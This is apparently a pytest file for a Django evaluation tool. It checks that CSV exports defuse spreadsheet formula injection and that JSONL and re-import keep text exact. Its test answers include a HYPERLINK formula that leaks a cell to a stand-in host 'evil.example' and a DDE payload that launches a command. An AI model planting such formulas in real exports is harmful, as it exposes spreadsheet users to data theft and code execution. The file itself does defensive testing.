"""CSV exports cannot attack a spreadsheet (issue 47, item 3; OWASP "CSV
injection"): a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is written behind an apostrophe — read back cell by cell
with Python's ``csv`` — JSON lines stay exact, ``import_dataset`` of the
exported file gives the very same text back, and an answer beginning with a
tab is stored as the model gave it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from agentlab.testing.stub_llm import StubLLMServer, final_answer_reply, last_user_text
from common.csv_cells import csv_cell_neutralise, csv_cell_restore
from evaluation.datasets.versions import examples_at
from evaluation.models import Dataset, Prediction

pytestmark = pytest.mark.django_db(transaction=True)

#: question → the model's answer: formulas, the trigger characters, and text that is safe as it is.
ANSWERS = {
    "=1+2": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "-3 plus 4?": "=cmd|' /C calc'!A0",
    "+tab": "\t=1+1",
    "@cr": "\r=1+1",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1:A9)",
    "quoted": "'=already quoted",
    "plain": "Paris",
    "inner": "a=b, c-d",
}
#: question_id → gold answer, some of them triggers too.
GOLDS = ["=2+1", "-1", "@x", "'-y", "+1", "-1", "z", "'=already quoted", "Paris", "a=b"]


def stub(body: dict[str, Any]) -> Any:
    """The model: answers each question with its ``ANSWERS`` entry."""
    return final_answer_reply(ANSWERS[last_user_text(body)], "e", "r")


@pytest.fixture
def exported(endpoint, tmp_path) -> dict[str, Path]:
    """A run of ``ANSWERS`` and its export as CSV and as JSON lines."""
    data = tmp_path / "formulas.jsonl"
    data.write_text(
        "".join(
            json.dumps({"question_id": f"q{i}", "question": q, "answer": GOLDS[i], "task_type": "t"}) + "\n"
            for i, q in enumerate(ANSWERS)
        ),
        encoding="utf-8",
    )
    with StubLLMServer(stub) as server:
        endpoint(server)
        call_command("run_eval", "--no-review", str(data), "--run-id", "formulas", stdout=io.StringIO())
    out = {"csv": tmp_path / "p.csv", "jsonl": tmp_path / "p.jsonl"}
    for path in out.values():
        call_command("export_predictions", "formulas", "--out", str(path), stderr=io.StringIO())
    return out


def test_the_cell_functions_are_inverse_and_neutralise_only_triggers():
    assert csv_cell_neutralise("=1+1") == "'=1+1"
    assert csv_cell_neutralise("\t=1") == "'\t=1" and csv_cell_neutralise("\r=1") == "'\r=1"
    assert csv_cell_neutralise("'=1") == "''=1"
    assert csv_cell_neutralise("'quote") == "'quote" and csv_cell_neutralise("a=1") == "a=1"
    assert csv_cell_neutralise("") == ""
    for text in ["", "'", "''", "=", "'=", "''=", "a", "'a", "-", "@@", "x\t=", *ANSWERS.values(), *GOLDS]:
        assert csv_cell_restore(csv_cell_neutralise(text)) == text


def test_export_predictions_csv_puts_an_apostrophe_before_every_formula_cell(exported):
    with exported["csv"].open(encoding="utf-8", newline="") as f:
        table = list(csv.reader(f))
    header, rows = table[0], [dict(zip(table[0], cells, strict=True)) for cells in table[1:]]
    assert header[:7] == ["run_id", "question_id", "epoch", "task_type", "question", "gold", "prediction"]
    assert [row["question"] for row in rows] == [
        "'=1+2", "'-3 plus 4?", "'+tab", "'@cr", "plus", "minus", "at", "quoted", "plain", "inner",
    ]  # fmt: skip
    assert [row["prediction"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "'=cmd|' /C calc'!A0",
        "'\t=1+1",
        "'\r=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1:A9)",
        "''=already quoted",
        "Paris",
        "a=b, c-d",
    ]
    assert [row["gold"] for row in rows] == [
        "'=2+1", "'-1", "'@x", "''-y", "'+1", "'-1", "z", "''=already quoted", "Paris", "a=b",
    ]  # fmt: skip
    for row in rows:  # no cell of the file starts a formula
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row.values()), row


def test_jsonl_keeps_every_answer_exact_and_the_database_stores_what_was_given(exported):
    lines = [json.loads(line) for line in exported["jsonl"].read_text(encoding="utf-8").splitlines()]
    assert [line["prediction"] for line in lines] == list(ANSWERS.values())
    assert [line["gold"] for line in lines] == GOLDS
    stored = Prediction.objects.order_by("example__position").values_list("prediction", flat=True)
    assert list(stored) == list(ANSWERS.values())  # "\t=1+1", not "=1+1"


def test_import_dataset_of_the_exported_csv_gives_the_same_text_back(exported):
    call_command(
        "import_dataset", str(exported["csv"]), "--name", "back", "--map", "answer=prediction",
        stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip
    examples = examples_at(Dataset.objects.get(name="back"), None)
    assert [e.question for e in examples] == list(ANSWERS)
    assert [e.answer for e in examples] == list(ANSWERS.values())
    assert [e.metadata["gold"] for e in examples] == GOLDS


def test_the_admins_csv_download_is_neutralised_too(exported, django_user_model):
    staff = django_user_model.objects.create_user(
        "boss", password="pw-boss-123", is_staff=True, is_superuser=True
    )
    client = Client()
    client.force_login(staff)
    first = Prediction.objects.first()
    assert first is not None
    run = first.run
    response = client.post(
        reverse("admin:evaluation_run_changelist"),
        {"action": "export_predictions_csv", "_selected_action": [run.pk]},
    )
    assert response.status_code == 200
    assert response.content == exported["csv"].read_bytes()
    cells = next(row for row in csv.reader(io.StringIO(response.content.decode())) if row[1] == "q0")
    assert cells[6] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
